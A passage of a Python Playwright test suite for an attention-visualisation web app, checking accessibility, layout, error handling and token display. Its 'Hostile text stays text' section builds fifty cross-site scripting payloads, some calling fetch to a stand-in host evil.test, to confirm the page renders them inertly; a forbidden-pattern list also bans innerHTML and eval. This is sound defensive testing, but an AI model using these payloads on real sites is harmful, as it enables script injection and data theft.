          e => e.getBoundingClientRect().right > document.querySelector(".lab").getBoundingClientRect().right).length"""
        assert opened.page.evaluate(beyond) == 0, name
        broken = "[...document.querySelectorAll('.lab .word')].filter(e => e.offsetHeight > 30).map(e => e.textContent)"
        assert opened.page.evaluate(broken) == [], name
    opened.close()


# Keyboard, screen sizes and accessibility.


def test_everything_is_reachable_by_keyboard(opened: Opened) -> None:
    opened.open("#/translate")
    opened.press("Tab")
    assert opened.focused() == "Skip to content"
    opened.press("Enter", "Tab")
    assert opened.focused().startswith("Model")
    opened.press("Tab")
    opened.page.keyboard.type(SENTENCE)
    opened.until(lambda: opened.page.locator(".alternatives li").count() == 3)
    for _ in range(10):
        opened.press("Tab")
        if opened.focused() == "Show its attention":
            break
    opened.press("Enter")
    opened.page.wait_for_selector(".attention-heads button")
    for _ in range(14):
        opened.press("Tab")
        if opened.focused().startswith("layer "):
            break
    opened.press("ArrowLeft")
    assert opened.text(".attention-large h2").endswith(f"head {regard.load('fr-en').config.heads - 1}")  # the last
    for wanted in ("reads", "Il"):
        for _ in range(8):
            opened.press("Tab")
            if opened.focused().startswith(wanted):
                break
        opened.press("ArrowDown")
        assert "atten" in opened.text(".attention-readout")
        opened.press("ArrowUp")
    assert opened.focused().startswith("Il")
    reached = []
    for _ in range(3):
        opened.press("Tab")
        reached.append(opened.focused())
    assert reached[0].startswith("Heat map")
    assert reached[1:] == ["▶ Play", "Decoding step"]


def test_every_control_has_a_name(opened: Opened) -> None:
    views = {
        "#/translate?source=Oui": ".alternatives li",
        LOOK: ".attention-heads button",
        "#/write?model=writer&text=the": ".bars button",
        "#/read?model=tagger&text=Oui": ".tagged ruby",
        "#/labs/align": ".lab h2",
    }
    nameless = """() => {
      const controls = "button, input, select, textarea, a, img, [tabindex='0'], [role=treeitem]";
      const name = e => e.getAttribute("aria-label") || e.alt || e.labels?.[0]?.textContent || e.textContent;
      const seen = [...document.querySelectorAll(controls)].filter(e => !e.closest("[hidden]") && e.alt !== "");
      return seen.filter(e => !name(e).trim()).map(e => e.outerHTML);
    }"""
    for hash_, wait in views.items():
        opened.open(hash_, wait)
        assert opened.page.evaluate(nameless) == [], hash_
        assert opened.page.locator("h1").count() == 1, hash_
        assert opened.page.locator("[role=status], [aria-live]").count() >= 1, hash_


@pytest.mark.parametrize(("width", "scheme"), [(360, "light"), (1920, "dark")])
def test_every_view_fits_a_phone_and_a_projector(context: Any, address: str, width: int, scheme: str) -> None:
    opened = Opened(context, address, width, 800, color_scheme=scheme)
    long = {"source": "Il aime son grand-père et il lui écrit souvent. " * 5, "model": "petit-fr-en"}
    views = {
        f"#/translate?{urlencode(long)}": ".alternatives li",
        f"#/look?{urlencode(long)}": ".attention-heads button",
        "#/write?model=writer&text=the": ".bars button",
        f"#/read?{urlencode({'model': 'tagger', 'text': 'Anticonstitutionnellement. ' * 9})}": ".tagged ruby",
        f"#/read?{urlencode({'task': 'embed', 'text': long['source'], 'others': long['source']})}": ".neighbours li",
        "#/labs/align": ".lab img",
    }
    for hash_, wait in views.items():
        opened.open(hash_, wait)
        opened.page.wait_for_timeout(100)
        assert opened.page.evaluate("document.documentElement.scrollWidth") <= width, hash_
        opened.page.goto("about:blank")
    opened.said = [said for said in opened.said if said != "about:blank"]
    opened.close()


def test_reduced_motion_is_respected(context: Any, address: str) -> None:
    opened = Opened(context, address, reduced_motion="reduce").open("#/write?model=writer&text=the", ".bars button")
    assert opened.page.locator(".bar-after").first.evaluate("e => getComputedStyle(e).transitionDuration") == "0s"
    opened.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_bars_are_visible_with_forced_colours(context: Any, address: str, scheme: str) -> None:
    """Forced colours remove backgrounds and shadows, so bars must be drawn in another way."""
    opened = Opened(context, address, forced_colors="active", color_scheme=scheme, reduced_motion="reduce")

    def columns(selector: str) -> list[bool]:
        """Whether each pixel along the middle of an element is drawn."""
        picture = Image.open(BytesIO(opened.page.locator(selector).first.screenshot())).convert("L")
        line = picture.crop((0, picture.height // 2, picture.width, picture.height // 2 + 1)).tobytes()
        ground = 255 if scheme == "light" else 0
        return [abs(value - ground) > 60 for value in line]

    opened.open("#/write?model=writer&text=the+cat&top_k=3", ".bars button")
    opened.until(lambda: opened.page.locator(".bar-cut").count() == 37)
    assert sum(columns(".bars .bar-track")) > 50
    assert 1 < sum(columns(".bars .bar-cut .bar-track")) < 5  # an outline
    opened.open(f"#/translate?{urlencode({'source': SENTENCE})}", ".alternatives li")
    assert sum(columns(".score-bar")) > 1
    opened.look()
    opened.page.wait_for_selector(".steps .bar-chosen")
    assert sum(columns(".steps .bar-chosen .bar-track")) > 20
    for selector in (".site-header nav a[aria-current=page]", ".attention-kinds label:has(:checked)"):
        told = "e => getComputedStyle(e).textDecorationLine + getComputedStyle(e).outlineStyle"
        assert opened.page.locator(selector).evaluate(told) != "nonenone"
    opened.open(f"{LOOK}&step=2", ".attention-later")
    tokens = opened.page.locator(".attention-queries .attention-token")
    styles = tokens.evaluate_all("all => all.map(e => getComputedStyle(e).fontStyle)")
    assert styles == ["normal"] * 2 + ["italic"] * (len(styles) - 2)  # those that are not written yet
    opened.close()


# Errors.

TITLES = {"look": "Attention", "write": "Write", "read": "Read", "labs": "Labs"}


def test_a_view_loads_only_its_own_modules(opened: Opened) -> None:
    requested: list[str] = []
    opened.page.on("request", lambda request: requested.append(request.url))
    opened.open("#/translate")
    assert any(url.endswith("/page/translate.js") for url in requested)
    others = ("attention_map.js", "runs.js", "labs.js", "gif.js")
    assert not any(url.endswith(others) for url in requested)
    opened.page.get_by_role("link", name="Labs").click()
    opened.page.get_by_role("link", name="Write").click()  # before the first is loaded
    opened.until(lambda: opened.page.title() == "Write · Regard")
    opened.page.route("**/page/runs.js", lambda route: route.abort())
    opened.page.get_by_role("link", name="Runs").click()
    opened.until(lambda: "could not be loaded" in opened.text("main"))
    opened.page.unroute("**/page/runs.js")
    opened.page.get_by_role("link", name="Read").click()
    opened.until(lambda: opened.page.title() == "Read · Regard")
    opened.said = [said for said in opened.said if REFUSED not in said]


def test_unknown_views_and_options(opened: Opened) -> None:
    for name in ("constructor", "__proto__", "toString", "hasOwnProperty", "nothing"):
        opened.open(f"#/{name}?model={name}&source=Oui", ".attention-heads button")
        assert opened.text("h1") == "Attention"
        for view in TITLES:
            hash_ = f"#/{view}/{name}?model={name}&kind={name}&layer={name}"
            opened.page.evaluate("hash => { location.hash = hash }", hash_)
            opened.until(lambda view=view: opened.text("h1") == TITLES[view])  # type: ignore[misc]


def test_requests_to_a_busy_server_are_retried(opened: Opened) -> None:
    answers = iter([{"status": 429, "headers": {"Retry-After": "1"}, "json": {"error": "too much waits"}}])

    def answer(route: Any) -> None:
        refusal = next(answers, None)
        route.fulfill(**refusal) if refusal else route.fallback()

    opened.page.route("**/api/translate", answer)
    opened.open("#/translate")
    opened.page.locator("#source").fill(SENTENCE)
    opened.until(lambda: "busy. Retrying in 1 s" in opened.text(".notice"))
    opened.until(lambda: "three books" in opened.text(".result"))
    assert opened.text(".notice") == ""
    opened.said = [said for said in opened.said if REFUSED not in said]


def test_an_unreachable_server_can_be_retried(opened: Opened) -> None:
    opened.page.route("**/api/attend", lambda route: route.abort())
    opened.open(LOOK)
    opened.until(lambda: "The server does not respond" in opened.text(".notice"))
    opened.page.unroute("**/api/attend")
    opened.page.get_by_role("button", name="Try again").click()
    opened.page.wait_for_selector(".attention-heads button")
    opened.said = [said for said in opened.said if REFUSED not in said]


def test_alternatives_of_a_token_can_be_requested_again(opened: Opened) -> None:
    opened.open("#/write?model=writer&text=the+cat", ".write-tokens button.chip")
    opened.page.route("**/api/next", lambda route: route.abort())
    panel = opened.page.locator(".write-alternatives")
    opened.page.locator(".write-tokens button.chip").first.click()
    opened.until(lambda: "The server does not respond" in str(panel.text_content()))
    assert panel.locator(".stale").count() == 0
    opened.page.unroute("**/api/next")
    panel.get_by_role("button", name="Try again").click()
    panel.locator(".bars button").first.wait_for()
    assert "The server does not respond" not in str(panel.text_content())
    opened.said = [said for said in opened.said if REFUSED not in said]


def test_errors_of_the_server_are_shown(opened: Opened) -> None:
    refusal = {"error": "a text of 90 tokens has too many weights to show: shorten it"}
    opened.page.route("**/api/attend", lambda route: route.fulfill(status=400, json=refusal))
    opened.open(LOOK)
    opened.until(lambda: refusal["error"] in opened.text(".notice"))
    opened.page.unroute("**/api/attend")
    opened.page.locator("#attention-source").fill(SENTENCE)
    opened.press("Enter")
    opened.page.wait_for_selector(".attention-heads button")
    assert opened.text(".notice") == ""
    opened.said = [said for said in opened.said if REFUSED not in said]


def test_a_text_that_is_too_long_is_reported_in_plain_words(opened: Opened) -> None:
    text = "Le chat dort. " * 800
    fields = {"translate": ("#source", "text"), "write": ("#text", "text"), "read": ("#read-text", "input.0")}
    for view, (field, name) in fields.items():
        options = {"task": "embed"} if view == "read" else {}
        opened.open(f"#/{view}?{urlencode(options)}", field)
        opened.page.locator(field).fill(text)
        said = f"{name} has more than 10,000 characters"
        opened.until(lambda said=said: said in opened.page.locator(".notice").all_text_contents())  # type: ignore[misc]
    opened.said = [said for said in opened.said if REFUSED not in said]


def test_characters_are_counted_near_the_limit(opened: Opened) -> None:
    opened.look()
    field = opened.page.locator("#attention-source")
    assert opened.text(".count") == ""
    field.fill("é" * 240)
    assert opened.text(".count") == ""
    field.fill("𝄞" * 301)  # one character each, though two units of JavaScript
    assert opened.text(".count") == "The sentence: 301 of 300 characters"
    opened.press("Enter")
    opened.until(lambda: "The sentence has 301 characters; the maximum is 300" in opened.text(".notice"))
    assert opened.page.locator(".attention-heads").count() == 0


def test_a_missing_model_is_reported(opened: Opened) -> None:
    for view in ("translate", "look", "write", "read"):
        served = "writer" if view == "write" else "fr-en"
        reported = f"This server has no model “nosuch”; showing {served} instead."
        opened.open(f"#/{view}?model=nosuch")
        opened.until(lambda reported=reported: opened.text(".missing-model") == reported)  # type: ignore[misc]
        opened.page.evaluate("hash => { location.hash = hash }", f"#/{view}?model={served}")
        opened.until(lambda: opened.text(".missing-model") == "")


def test_the_token_is_requested_and_sent(opened: Opened) -> None:
    sent: list[str] = []

    def answer(route: Any) -> None:
        sent.append(route.request.headers.get("authorization", ""))
        if sent[-1] == "Bearer sesame":
            route.fallback()
        else:
            route.fulfill(status=401, json={"error": "a token is needed"})

    opened.page.route("**/api/*", answer)
    opened.open("#/translate", ".notice-error")
    opened.page.get_by_label("Token").fill("開け")  # which cannot stand in a header as it is
    opened.press("Enter")
    opened.until(lambda: sent[-1] == "Bearer 開け")
    opened.page.get_by_label("Token").fill("sesame")
    opened.press("Enter")
    opened.page.wait_for_selector("#source")
    opened.said = [said for said in opened.said if REFUSED not in said]


# Hostile text stays text.

WAYS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "</textarea><script>{}</script>",
    "</title><svg/onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "javascript:{}",
    "\"><details open ontoggle={}>",
    "' autofocus onfocus={} x='",
    "<math><mtext></mtext><script>{}</script></math>",
)  # fmt: skip
CALLS = ("alert({0})", "parent.ran={0}", "fetch('//evil.test/{0}')", "document.title={0}", "confirm`{0}`")
PAYLOADS = [way.format(call.format(number)) for number, (way, call) in enumerate((w, c) for w in WAYS for c in CALLS)]
assert len(PAYLOADS) == 50


def expect(field: Any, value: str) -> None:
    from playwright.sync_api import expect as expected

    expected(field).to_have_value(value)


def harmless(opened: Opened, where: str) -> None:
    opened.page.wait_for_timeout(50)
    assert opened.said == [], where
    assert opened.page.evaluate("window.ran === undefined"), where
    assert "Regard" in opened.page.title()
    assert opened.page.locator("main script, main iframe, main math, main details, main img[src=x]").count() == 0


def test_payloads_in_the_source_stay_text(opened: Opened) -> None:
    """50 by URL and 50 by typing, through the model's tokens and translations."""
    opened.open("#/translate")
    for payload in PAYLOADS:
        opened.page.evaluate("hash => { location.hash = hash }", f"#/translate?{urlencode({'source': payload})}")
        expect(opened.page.locator("#source"), payload)
    harmless(opened, "translate")
    opened.open("#/look", ".attention-heads button")
    for payload in PAYLOADS:
        opened.page.locator("#attention-source").fill(payload)
        opened.press("Enter")
    opened.until(
        lambda: (
            "confirm"
            in "".join(opened.page.locator(".attention-keys .attention-token").all_text_contents()).replace("·", "")
        )
    )
    harmless(opened, "look")


def test_payloads_in_responses_stay_text(opened: Opened) -> None:
    """50 as translations, with their links; 50 as names and descriptions of models and labs."""
    translations = [{"text": payload, "score": -float(i), "penalised": -float(i)} for i, payload in enumerate(PAYLOADS)]
    opened.stub("/api/translate", {"model": "fr-en", "translations": translations})
    told = {"kind": "decoder", "translates": True, "writes": True, "tasks": [], "source": "fr", "target": "<b>"}
    sizes = {"parameters": 1_000, "layers": 1, "decoder_layers": None, "heads": 1, "look_at_most": 300}
    opened.stub("/api/models", [{"name": each, "about": each, **told, **sizes} for each in PAYLOADS])
    opened.open("#/translate?source=Oui", ".alternatives li")
    assert opened.page.locator(".alternative-text").all_text_contents() == PAYLOADS[1:]
    assert opened.page.locator("select option").all_text_contents() == PAYLOADS
    harmless(opened, "translations")
    table = {"title": PAYLOADS[0], "head": PAYLOADS, "rows": [PAYLOADS]}
    claims = [{"text": each, "holds": False} for each in PAYLOADS]
    lab = {"name": PAYLOADS[1], "question": PAYLOADS[2], "about": PAYLOADS, "claims": claims, "tables": [table]}
    opened.stub("/api/labs", [{**lab, "notes": PAYLOADS, "picture": "/labs/align.png"}])
    opened.open("#/labs", ".claims li")
    assert opened.page.locator(".lab td").all_text_contents() == [each.replace("`", "") for each in PAYLOADS]
    harmless(opened, "labs")


def attention(tokens: list[str]) -> dict[str, Any]:
    """A response of the server for a model with these tokens."""
    t = len(tokens)
    weights = (torch.randn(1, 2, t, t) * 2).softmax(-1).tolist()
    one = {"queries": tokens, "keys": tokens, "weights": weights}
    maps = [{"kind": "encoder", "writes": [], **one}, {"kind": "cross", "writes": tokens, **one}]
    top = [{"token": each, "p": 1 / t} for each in tokens[:10]]
    path = [
        {
            "id": i,
            "parent": i - 1 if i else None,
            "token": each,
            "score": -i,
            "step": i,
            "kept": True,
            "best": i < t - 1,
        }
        for i, each in enumerate(tokens)
    ]
    told = {"model": "made", "source": tokens[0], "target": " ".join(tokens), "special": tokens[:2]}
    steps = [{"token": each, "top": top} for each in tokens]
    return {**told, "maps": maps, "steps": steps, "beam": {"nodes": path}, "gold": [[i, i] for i in range(t)]}


def test_payloads_in_tokens_stay_text(opened: Opened) -> None:
    """50 as tokens of both sides, in the steps, the beam and the readouts; 50 as next tokens."""
    opened.stub("/api/attend", attention(PAYLOADS))
    opened.look()
    assert opened.page.locator(".attention-keys .attention-token").all_text_contents() == PAYLOADS
    for row in range(0, 50, 7):
        opened.page.locator(".attention-queries button").nth(row).click()
        opened.page.locator(".attention-keys button").nth(row).hover()
    harmless(opened, "look")
    tokens = [{"id": i, "text": each, "p": 0.02, "kept_p": 0.02} for i, each in enumerate(PAYLOADS)]
    opened.stub("/api/next", {"model": "writer", "tokens": tokens, "text_tokens": PAYLOADS})
    opened.open("#/write?model=writer&text=the", ".bars button")
    opened.page.locator(".bars button").nth(3).click()
    opened.until(lambda: opened.page.locator("#text").input_value() == f"the{PAYLOADS[3]}")
    assert opened.page.locator(".chip").count() == 50
    harmless(opened, "write")


def test_invisible_tokens_are_made_visible(opened: Opened) -> None:
    tokens = ["", "\u0301", "שלום", "مرحبا", "\u200d", "🏳️‍🌈", "a" * 300, "ﷺ", " ", "\u202eabc"]
    opened.stub("/api/attend", attention(tokens))
    opened.look()
    shown = opened.page.locator(".attention-keys .attention-token").all_text_contents()
    assert shown[:4] == ["∅", "◌\u0301", "שלום", "مرحبا"]
    assert opened.page.evaluate("document.documentElement.scrollWidth") <= 1280


def test_a_hundred_tokens(opened: Opened) -> None:
    opened.stub("/api/attend", attention([f"token{i}" for i in range(100)]))
    opened.look()
    opened.page.locator(".attention-queries button").nth(99).click()
    assert len(shares(opened, "keys")) == 100
    assert opened.page.evaluate("document.documentElement.scrollWidth") <= 1280


def test_the_page_loads_nothing_external_and_sets_no_html() -> None:
    for path in sorted(Path(regard.__file__).parent.glob("page/*.*")):
        if path.suffix not in (".js", ".css", ".html"):
            continue
        text = path.read_text(encoding="utf-8").replace("http://www.w3.org/2000/svg", "")
        for forbidden in (
            "http://",
            "https://",
            "innerHTML",
            "outerHTML",
            "insertAdjacent",
            "eval(",
            "@import",
            "url(",
        ):
            assert forbidden not in text, (path.name, forbidden)
        assert " style=" not in text, path.name
        assert " onclick=" not in text, path.name


# Labels and hints.


def test_an_emoji_is_one_word_whose_bytes_are_shown_as_tokens(opened: Opened) -> None:
    opened.look(f"#/look?{urlencode({'model': 'petit-fr-en', 'source': 'Marie mange une 🍕.'})}")
    assert "🍕" in opened.page.locator("[aria-label^='Source words'] button").all_text_contents()
    tokens = opened.page.locator(".attention-keys .attention-token")
    labels = tokens.all_text_contents()
    assert [label for label in labels if "\\x" in label] == [r"\xf0", r"·\x9f", r"·\x8d", r"·\x95"]
    opened.page.get_by_label("join pieces into words").check()
    opened.until(lambda: "🍕" in tokens.all_text_contents())
    assert not any("\\x" in label for label in tokens.all_text_contents())


def test_the_first_word_of_a_translation_has_no_dot(opened: Opened) -> None:
    source = "Le petit chat noir de Marie ne dort jamais."
    opened.look(f"#/look?{urlencode({'model': 'petit-fr-en', 'source': source})}")
    top = opened.page.evaluate(
        "async (source) => (await (await fetch('/api/attend', { method: 'POST', headers: { 'Content-Type':"
        " 'application/json' }, body: JSON.stringify({ model: 'petit-fr-en', source }) })).json()).steps[0].top",
        source,
    )
    assert {"Marie", "␣Marie"} <= {item["token"] for item in top}  # the alternatives look the same but for the space
    assert opened.text("[aria-label^='Output words'] button") == "Marie"
    assert opened.page.locator(".beam g.beam-best text").all_text_contents()[1] == "Marie"


def test_a_language_model_has_beginnings_of_texts_as_examples(opened: Opened) -> None:
    opened.look("#/look?model=writer")
    beginnings = ["Once upon a time, there was a", "One day, a little fox", "In a small village"]
    assert opened.page.locator(".examples button").all_text_contents() == beginnings
    assert opened.page.locator("#attention-source").input_value() == beginnings[0]
    assert opened.page.locator(".word-side").all_text_contents() == ["text", "predicted"]
    opened.open("#/write?model=writer", ".write-tokens .chip")
    assert opened.page.locator(".examples button").all_text_contents() == beginnings


def test_examples_have_a_language_only_if_they_are_in_it(opened: Opened) -> None:
    opened.open("#/labs", "main h1")
    shown = opened.page.evaluate("""async () => {
      const { exampleButtons } = await import("/page/controls.js");
      const models = [["es", false], ["fr", false], [null, false], ["fr", true], ["es", true]];
      return models.map(([source, translates]) => {
        const [, button] = exampleButtons({ source, translates, writes: true }, () => {});
        return button ? [button.textContent, button.getAttribute("lang")] : null;
      });
    }""")
    english = ["Once upon a time, there was a", None]
    assert shown == [english, ["Le petit chat", "fr"], english, ["Il y a trois livres sur la table.", "fr"], None]


def test_labels_of_bytes_are_joined_and_text_that_looks_like_them_is_kept(opened: Opened) -> None:
    opened.open("#/labs", "main h1")
    labels = [
        [r"\xf0", r"·\x9f", r"·\x8d", r"·\x95"],  # an emoji
        [r"\xf0", r"·\x9f"],  # a part of it
        ["caf", r"·\xc3\xa9"],
        [r"\xef\xbb\xbf"],  # a byte order mark
        [r"\x41bc"],
        [r"a\x1b[2J"],
    ]
    joined = opened.page.evaluate(
        "async (labels) => labels.map((await import('/page/token_names.js')).joinLabels)", labels
    )
    assert joined == ["🍕", r"\xf0\x9f", "café", r"\u{feff}", r"\x41bc", r"a\x1b[2J"]


def test_small_probabilities_are_neither_excluded_nor_long(opened: Opened) -> None:
    opened.open("#/labs", "main h1")
    shown = opened.page.evaluate("""async () => {
      const { createBars } = await import("/page/probability_bars.js");
      const { percent } = await import("/page/dom.js");
      const bars = createBars("tokens");
      bars.show([{ token: "a", p: 1 }, { token: "b", p: 0 }, { token: "c", p: 0, kept: 0 }]);
      const shares = [...bars.list.querySelectorAll(".bar-share")].map((element) => element.textContent);
      return [shares, [0, 2.5e-6, 1.75e-5, 0.00087, 0.753].map(percent)];
    }""")
    assert shown == [["100%", "< 0.1%", "excluded"], ["0%", "< 0.001%", "0.002%", "0.087%", "75.3%"]]


def test_hints_name_the_devices_that_there_are(opened: Opened, context: Any, address: str) -> None:
    prompts = ".attention-readout, .cell-about, .lens-readout"
    opened.look()
    assert all("Tab and the arrow keys" in text for text in opened.page.locator(prompts).all_text_contents())
    phone = context.browser.new_context(has_touch=True, is_mobile=True)
    touched = Opened(phone, address, 360, 740)
    texts = touched.look().page.locator(prompts).all_text_contents()
    assert len(texts) == 3
    assert all(text.startswith("Tap ") for text in texts)
    touched.close()
    phone.close()


def test_later_steps_are_dimmed_within_the_map_only(opened: Opened) -> None:
    opened.look(f"{LOOK}&kind=cross&layer=1&head=1&step=1")
    corner = """canvas => [...canvas.getContext("2d").getImageData(canvas.width - 2, canvas.height - 2, 1, 1).data]"""
    canvas = opened.page.locator(".attention-matrix canvas").first
    opened.until(lambda: opened.page.locator(".attention-later").count() > 0)
    assert canvas.evaluate(corner) == [0, 0, 0, 0]  # beside the map, below slanted labels: another background shows
